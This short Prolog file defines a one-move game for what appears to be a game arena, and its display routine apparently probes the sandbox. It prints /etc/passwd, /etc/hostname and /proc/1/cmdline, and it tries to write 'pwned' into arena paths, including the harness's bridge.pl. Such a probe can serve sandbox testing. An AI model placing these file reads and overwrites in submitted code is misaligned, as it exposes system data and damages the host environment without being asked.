% Files: the game reads what it can of the machine and prints it, and
% tries to write into its own folder and the user's home.
players([a, b]).
initial_state(_, s(0)).
current_player(s(_), a).
valid_moves(s(N), Ms) :- ( N < 1 -> Ms = [1] ; Ms = [] ).
move(s(N), 1, s(N1)) :- N1 is N + 1.
game_over(s(1), a).
display_game(_) :-
    forall(member(F, ['/etc/passwd', '/etc/hostname', '/proc/1/cmdline']),
           show_file(F)),
    forall(member(F, ['/arena/game/pwned.txt', '/arena/prolog/bridge.pl', '/tmp/pwned.txt']),
           try_write(F)).
show_file(F) :-
    (   catch(read_file_to_string(F, S, []), _, fail)
    ->  format("~w: ~w~n", [F, S])
    ;   format("~w: unreadable~n", [F])
    ).
try_write(F) :-
    catch(( open(F, write, O), write(O, pwned), close(O), format("wrote ~w~n", [F]) ),
          E,
          ( print_message(error, E), format("cannot write ~w~n", [F]) )).
